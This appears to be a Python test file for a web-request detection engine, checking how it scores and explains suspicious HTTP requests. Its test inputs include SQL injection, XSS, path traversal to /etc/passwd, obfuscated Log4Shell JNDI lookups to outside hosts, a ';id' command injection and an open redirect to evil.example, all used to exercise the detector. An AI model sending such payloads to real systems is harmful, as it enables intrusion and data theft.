"""The detection stage over batches: verdict shape, targets, fragments, caching, explain."""

from __future__ import annotations

from pathlib import Path

from tests.detect.rules_support import detect, engine, rule_ids, shipped_rules
from vigil.config import load_settings
from vigil.detect.engine import DetectionEngine
from vigil.detect.exclusions import Exclusion, ExclusionSet
from vigil.detect.result import FRAGMENT_LIMIT
from vigil.detect.samples import record_from_log_line, record_from_request

BENIGN = "GET /products/select-comfort-mattress?color=blue&size=queen HTTP/1.1"


def test_batch_verdicts_keep_order_and_length() -> None:
    eng = engine()
    requests = [BENIGN, "GET /x?id=1+or+1%3D1 HTTP/1.1", BENIGN, "GET /.git/config HTTP/1.1"]
    records = [record_from_request(r, offset=i) for i, r in enumerate(requests)]
    verdicts = eng.detect_batch(records)
    assert [v.severity for v in verdicts] == ["LOW", "HIGH", "LOW", "MEDIUM"]
    assert verdicts[0].score == 0.0 and not verdicts[0].matches
    assert verdicts[3].categories == ("probe",)


def test_matches_name_rule_target_fragment_and_points() -> None:
    verdict = detect(engine(), "GET /item?id=5&name=x%27+UNION+SELECT+1%2C2-- HTTP/1.1")
    union = next(m for m in verdict.matches if m.rule_id == "sqli-union-select")
    assert union.target == "args:name"
    assert union.fragment == " union select "
    assert union.category == "sqli"
    assert union.points == 5
    assert verdict.severity == "HIGH"
    assert verdict.points >= 10
    assert verdict.to_dict()["matches"][0]["rule_id"]


def test_fragments_are_truncated() -> None:
    long_attack = "%3Cscript%3E" + "a" * 400 + "%3C%2Fscript%3E"
    verdict = detect(engine(), f"GET /x?q={long_attack} HTTP/1.1")
    assert verdict.matches
    assert all(len(m.fragment) <= FRAGMENT_LIMIT for m in verdict.matches)


def test_each_rule_counts_once_per_request() -> None:
    one = detect(engine(), "GET /x?a=%3Cscript%3E HTTP/1.1")
    two = detect(engine(), "GET /x?a=%3Cscript%3E&b=%3Cscript%3E HTTP/1.1")
    assert len([m for m in two.matches if m.rule_id == "xss-script-tag"]) == 2
    assert two.points == one.points


def test_user_agent_and_path_targets() -> None:
    verdict = detect(engine(), "GET /wp-config.php.bak HTTP/1.1", user_agent="sqlmap/1.7")
    targets = {(m.rule_id, m.target) for m in verdict.matches}
    assert ("scanner-attack-tool", "user_agent") in targets
    assert ("probe-config-backup", "path") in targets


def test_evasion_signals_are_reported_and_scored() -> None:
    verdict = detect(engine(), "GET /download?f=..%c0%af..%c0%afetc%c0%afpasswd HTTP/1.1")
    assert "overlong-utf8" in verdict.signals
    assert "protocol-overlong-utf8" in rule_ids(verdict)
    assert "lfi-dot-dot-slash" in rule_ids(verdict)


def test_log4shell_obfuscations_in_headers() -> None:
    eng = engine()
    for agent in (
        "${jndi:ldap://198.51.100.1/a}",
        "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
    ):
        assert detect(eng, "GET / HTTP/1.1", user_agent=agent).severity == "HIGH", agent


def test_malformed_request_line_and_tls_handshake() -> None:
    line = (
        '203.0.113.5 - - [10/Oct/2024:13:55:36 +0000] "\\x16\\x03\\x01\\x00\\xA5\\x01\\x00" '
        '400 157 "-" "-"'
    )
    record = record_from_log_line(line)
    assert record is not None and record.malformed
    verdict = engine().detect_batch([record])[0]
    assert {"protocol-malformed-request", "protocol-tls-handshake"} <= rule_ids(verdict)
    assert "malformed-request" in verdict.signals
    assert verdict.severity == "MEDIUM"


def test_repeated_batches_give_identical_verdicts_from_the_caches() -> None:
    eng = engine()
    records = [
        record_from_request(r)
        for r in (BENIGN, "GET /x?q=%3Csvg%2Fonload%3Dalert(1)%3E HTTP/1.1", "GET /x?a=1 HTTP/1.1")
    ]
    first = eng.detect_batch(records)
    second = eng.detect_batch(records)
    assert first == second


def test_caches_stay_bounded() -> None:
    eng = DetectionEngine(shipped_rules(), cache_size=50)
    records = [record_from_request(f"GET /item/{i}?id={i}&q=w{i} HTTP/1.1") for i in range(400)]
    for start in range(0, 400, 100):
        eng.detect_batch(records[start : start + 100])
    assert all(len(cache) <= 100 for cache in eng._hits.values())
    assert all(len(cache) <= 100 for cache in eng._composites.values())


def test_explain_shows_decoded_targets_matches_and_score() -> None:
    record = record_from_request("GET /item?id=1%2527%2520OR%25201%253D1-- HTTP/1.1")
    explained = engine().explain(record)
    arg = next(t for t in explained["targets"] if t["target"] == "args:id")
    assert arg["decoded"] == "1' or 1=1--"
    assert "double-encoding" in arg["signals"]
    assert explained["severity"] == "HIGH"
    assert any(m["rule_id"] == "sqli-tautology" for m in explained["matches"])


def test_from_section_reads_paranoia_disabled_rules_and_exclusions(tmp_path: Path) -> None:
    exclusions = tmp_path / "exclusions.yaml"
    exclusions.write_text("allow_ips: [192.0.2.0/24]\n", encoding="utf-8")
    settings = load_settings(
        paranoia_level=2, disabled_rules="probe-env-file", exclusions_file=exclusions
    )
    eng = DetectionEngine.from_section(settings.rules)
    assert eng.paranoia_level == 2
    # The disabled rule is silent; the broad hidden-path rule still sees a dot-file.
    assert {m.rule_id for m in detect(eng, "GET /.env HTTP/1.1").matches} == {"probe-hidden-path"}
    assert detect(eng, "GET /x?f=../../etc/passwd HTTP/1.1", client_ip="192.0.2.9").allowlisted


def test_user_rule_directory_adds_rules(tmp_path: Path) -> None:
    (tmp_path / "site.yaml").write_text(
        """
family: site
rules:
  - id: site-internal-debug-flag
    name: Internal debug switch
    category: probe
    severity: critical
    targets: [args_names]
    transforms: [decode]
    patterns: ['^__debug$']
    examples:
      must_match: ['GET /?__debug=1 HTTP/1.1']
      must_not_match: ['GET /?debug=1 HTTP/1.1']
""",
        encoding="utf-8",
    )
    settings = load_settings(rules_dirs=str(tmp_path))
    eng = DetectionEngine.from_section(settings.rules)
    assert "site-internal-debug-flag" in rule_ids(detect(eng, "GET /?__debug=1 HTTP/1.1"))


def test_verdicts_cross_a_process_boundary_unchanged() -> None:
    from vigil.detect.exclusions import ExclusionSet
    from vigil.detect.result import CLEAN, decode_detections, encode_detections

    eng = DetectionEngine(shipped_rules(), exclusions=ExclusionSet(allow_ips=("192.0.2.9",)))
    sqli = "GET /x?id=1+or+1%3D1 HTTP/1.1"
    requests = [BENIGN, sqli, BENIGN, "GET /.git/config HTTP/1.1", sqli]
    records = [record_from_request(r, offset=i) for i, r in enumerate(requests)]
    records.append(record_from_request("GET /x?f=../../etc/passwd HTTP/1.1", client_ip="192.0.2.9"))
    verdicts = eng.detect_batch(records)
    assert verdicts[0] is CLEAN and verdicts[-1].allowlisted == "ip"
    assert verdicts[1] is verdicts[4]
    decoded = decode_detections(encode_detections(verdicts))
    assert decoded == verdicts
    assert decoded[0] is CLEAN and decoded[2] is CLEAN
    # A verdict the engine shared between requests stays one object.
    assert decoded[1] is decoded[4] and decoded[1] is not decoded[3]
    assert [type(m) for m in decoded[1].matches] == [type(m) for m in verdicts[1].matches]
    assert decode_detections(encode_detections([])) == []


def test_a_fallback_rule_scores_only_where_no_specific_rule_of_its_category_matched() -> None:
    eng = engine()
    specific = detect(eng, "GET /.git/config HTTP/1.1")
    assert {(m.rule_id, m.points) for m in specific.matches} >= {("probe-hidden-path", 0)}
    assert specific.severity == "MEDIUM"
    alone = detect(eng, "GET /.lynx_cookies HTTP/1.1")
    assert [(m.rule_id, m.points) for m in alone.matches] == [("probe-hidden-path", 3)]
    assert alone.severity == "MEDIUM"


def test_weak_sql_signals_stay_low_alone_and_add_up_together() -> None:
    eng = engine()
    # libinjection's verdict with nothing SQL in it beyond quotes and "&": a notice.
    alone = detect(eng, "GET /search?q=tom%27+%26+%27jerry+dvd HTTP/1.1")
    assert rule_ids(alone) == {"sqli-libinjection-uncorroborated"}
    assert (alone.points, alone.severity) == (2, "LOW")
    # A quote and "and" between two plural possessives: a notice.
    possessive = detect(eng, "GET /search?q=girls%27+and+boys%27+sneakers HTTP/1.1")
    assert rule_ids(possessive) == {"sqli-quote-then-keyword"}
    assert possessive.severity == "LOW"
    # A breakout with a condition after it stays a critical match.
    breakout = detect(eng, "GET /item?id=x%27+or+%271%27%3D%271 HTTP/1.1")
    assert {"sqli-libinjection", "sqli-quote-then-operator"} <= rule_ids(breakout)
    assert breakout.severity == "HIGH"


def test_a_link_in_the_user_agent_is_no_script_but_one_in_a_parameter_is_markup() -> None:
    eng = engine()
    bot = "Mozilla/5.0 (compatible; FeedFetcher/2.1; +<a href='https://feeds.example.org/'>x</a>)"
    assert detect(eng, "GET / HTTP/1.1", user_agent=bot).severity == "LOW"
    scripted = detect(eng, "GET / HTTP/1.1", user_agent='<a href="javascript:alert(1)">x</a>')
    assert scripted.severity == "HIGH"
    handler = '<a href="https://e.example/" onmouseover=x>'
    assert detect(eng, "GET / HTTP/1.1", user_agent=handler).severity == "HIGH"
    link = "%3Ca+href%3D%22https%3A%2F%2Fe.example%2F%22%3Ewin%3C%2Fa%3E"
    injected = detect(eng, f"GET /x?q={link} HTTP/1.1")
    assert "xss-link-markup" in rule_ids(injected)
    assert injected.severity == "HIGH"


def test_a_dom_sink_named_is_no_script_but_one_called_with_an_argument_is() -> None:
    eng = engine()
    assert detect(eng, "GET /search?q=window.open()+new+tab HTTP/1.1").severity == "LOW"
    assert detect(eng, "GET /search?q=js%3A+window.location+redirect HTTP/1.1").severity == "LOW"
    called = detect(eng, "GET /x?q=%27%3Bwindow.open(%27%2F%2Fe.example%27)%2F%2F HTTP/1.1")
    assert "xss-dom-sink" in rule_ids(called)
    assert called.severity == "HIGH"
    # Called with no script around it, as code searches do: a notice.
    for query in ("window.open(%27%2F%2Fe.example%27)", "jquery+window.open(url)+new+tab"):
        searched = detect(eng, f"GET /search?q={query} HTTP/1.1")
        assert rule_ids(searched) == {"xss-dom-sink-call"}
        assert searched.severity == "LOW"
    # A return address's own query is read as a query: its "=" assigns nothing.
    nested = "GET /login?next=%2Fhelp%3Fq%3Dwindow.location.replace(url)%2Bnot%2Bworking HTTP/1.1"
    assert detect(eng, nested).severity == "LOW"


def test_requests_that_hit_the_same_share_a_verdict_equal_to_a_fresh_one() -> None:
    # Same attack argument, other arguments and referers differing: the second and third
    # verdicts come from the memo of the first, and must read as if computed afresh.
    requests = [
        (f"GET /page/{i}?page={i}&lang=/etc/passwd HTTP/1.1", f"https://shop.example.com/p/{i}")
        for i in range(3)
    ]
    lines = [
        f'203.0.113.9 - - [10/Oct/2024:13:55:36 +0000] "{request}" 200 5 "{referer}" "curl/8"'
        for request, referer in requests
    ]
    records = [record for record in map(record_from_log_line, lines) if record is not None]
    assert len(records) == 3
    shared = engine().detect_batch(records)
    fresh = [engine().detect_batch([record])[0] for record in records]
    assert shared == fresh
    assert all(v.matches and v.matches[0].target == "args:lang" for v in shared)


def test_a_memoised_verdict_still_honours_exclusions_bound_to_the_path() -> None:
    exclusions = ExclusionSet(
        exclusions=(Exclusion(rules=("sqli-union-select",), path="/search", args=("q",)),)
    )
    eng = DetectionEngine(shipped_rules(), exclusions=exclusions)
    attack = "q=x%27+UNION+SELECT+1%2C2--"
    records = [
        record_from_request(f"GET /search?{attack} HTTP/1.1"),
        record_from_request(f"GET /other?{attack} HTTP/1.1"),
        record_from_request(f"GET /search?{attack} HTTP/1.1"),
    ]
    excluded, kept, again = eng.detect_batch(records)
    assert "sqli-union-select" not in rule_ids(excluded)
    assert "sqli-union-select" in rule_ids(kept)
    assert again == excluded


def test_double_encoding_adds_to_a_finding_but_not_to_another_weak_signal() -> None:
    eng = engine()
    # Encoded twice by a link wrapper: the signal is shown, worth nothing alone.
    alone = detect(eng, "GET /out?file=report%2520%25281%2529.pdf HTTP/1.1")
    assert [(m.rule_id, m.points) for m in alone.matches] == [("protocol-double-encoding", 0)]
    assert alone.score == 0
    # Beside another weak signal (a quote then a keyword in L'Oréal) it stays LOW.
    brand = detect(eng, "GET /redirect?file=L%2527Or%25C3%25A9al HTTP/1.1")
    assert {"protocol-double-encoding", "sqli-quote-then-keyword"} <= rule_ids(brand)
    assert brand.severity == "LOW"
    # Beside a finding of its own it adds its points.
    traversal = detect(eng, "GET /files?name=%252e%252e%252fetc%252fpasswd HTTP/1.1")
    assert ("protocol-double-encoding", 2) in {(m.rule_id, m.points) for m in traversal.matches}
    assert traversal.severity == "HIGH"


def test_a_return_address_encoded_twice_is_judged_as_an_address() -> None:
    eng = engine()
    # The home page, and a code search kept in a return address, each encoded twice.
    home = detect(eng, "GET /customer/account/login/?redirect_to=%252F HTTP/1.1")
    assert not home.matches
    search = detect(
        eng,
        "GET /auth/login?from=https%253A%252F%252Fshop.example.com%252Fcheckout%253Fq%253D"
        "document.cookie%252Bvs%252Bwindow.location.href%2526page%253D1&lang=de HTTP/1.1",
    )
    assert search.severity == "LOW"
    # Another host, a script URL, or an injection inside the nested address still are attacks.
    for attack in (
        "GET /login?next=%252F%252Fevil.example HTTP/1.1",
        "GET /login?next=javascript%253Aalert%25281%2529 HTTP/1.1",
        "GET /login?from=https%253A%252F%252Fshop.example.com%252Fp%253Fq%253D"
        "%25253Cscript%25253Ealert(1)%25253C%25252Fscript%25253E HTTP/1.1",
        "GET /login?from=%252F%253Fid%253D1%252527%252520or%2525201%25253D1-- HTTP/1.1",
    ):
        assert detect(eng, attack).severity in ("MEDIUM", "HIGH"), attack


def test_a_code_search_naming_a_dialog_or_a_sink_adds_only_to_a_finding_of_its_own() -> None:
    eng = engine()
    # Alone it is worth nothing, so it cannot corroborate the classifier either.
    named = detect(eng, "GET /search?q=window.alert%28%27%23main%27%29&page=2 HTTP/1.1")
    assert [(m.rule_id, m.points) for m in named.matches] == [("xss-dialog-call-named", 0)]
    assert named.score == 0
    # Beside another weak signal (a measurement then "or" in another argument) it stays LOW.
    both = detect(
        eng,
        "GET /search?q=window.open(e.target.value)+not+working&r=11%27+or+10%27+cable HTTP/1.1",
    )
    assert {"xss-dom-sink-call", "sqli-quote-then-keyword"} <= rule_ids(both)
    assert both.severity == "LOW"
    # Beside a finding worth a warning or more it adds its points.
    probe = detect(eng, "GET /search?q=window.alert%28%27x%27%29&id=1+union+select+1 HTTP/1.1")
    assert ("xss-dialog-call-named", 2) in {(m.rule_id, m.points) for m in probe.matches}


def test_a_whole_url_naming_this_server_is_its_path_and_another_a_proxy_probe() -> None:
    line = '203.0.113.9 - - [10/Oct/2024:13:55:36 +0000] "GET {} HTTP/1.1" 200 5 "-" "Mozilla/5.0"'
    own = record_from_log_line(line.format("http://localhost:8080/shop/cart.jsp?id=2"))
    proxy = record_from_log_line(line.format("http://www.example.net/"))
    assert own is not None and proxy is not None
    assert own.path == "/shop/cart.jsp"
    own_verdict, proxy_verdict = engine().detect_batch([own, proxy])
    assert own_verdict.score == 0.0
    assert rule_ids(proxy_verdict) == {"protocol-proxy-absolute-uri"}
    assert proxy_verdict.matches[0].category == "probe"
    # The logged Host decides: a loopback URL sent to a named site is a proxy request.
    named = record_from_request(
        "GET http://localhost/admin HTTP/1.1", headers=[("host", "shop.example.com")]
    )
    assert named.path == "http://localhost/admin"
    assert "protocol-proxy-absolute-uri" in rule_ids(engine().detect_batch([named])[0])


def test_a_value_with_semicolons_is_also_read_whole() -> None:
    # Split at ";" as well, deviceName=A;id is a value "A" and a bare name "id"; the router
    # CGI that reads it splits at "&" only and runs "A;id".
    verdict = detect(engine(), "GET /goform/setUsbUnload/.js?deviceName=A;id HTTP/1.1")
    chain = [m for m in verdict.matches if m.rule_id == "rce-unix-command-chain"]
    assert [m.target for m in chain] == ["args:deviceName"]
    assert chain[0].fragment == ";id"
    assert detect(engine(), "GET /x?deviceName=A&id=7 HTTP/1.1").score == 0.0


def test_argument_names_of_the_referer_are_read() -> None:
    eng = engine()
    attack = "https://shop.example.com/list?id%27%20AND%20SLEEP(5)--=1"
    plain = "https://shop.example.com/list?filter[color]=red&utm_source=mail"
    records = [record_from_request("GET / HTTP/1.1", referer=r) for r in (attack, plain)]
    flagged, quiet = eng.detect_batch(records)
    assert any(
        m.category == "sqli" and m.target.startswith("referer_args") for m in flagged.matches
    )
    assert quiet.score == 0.0
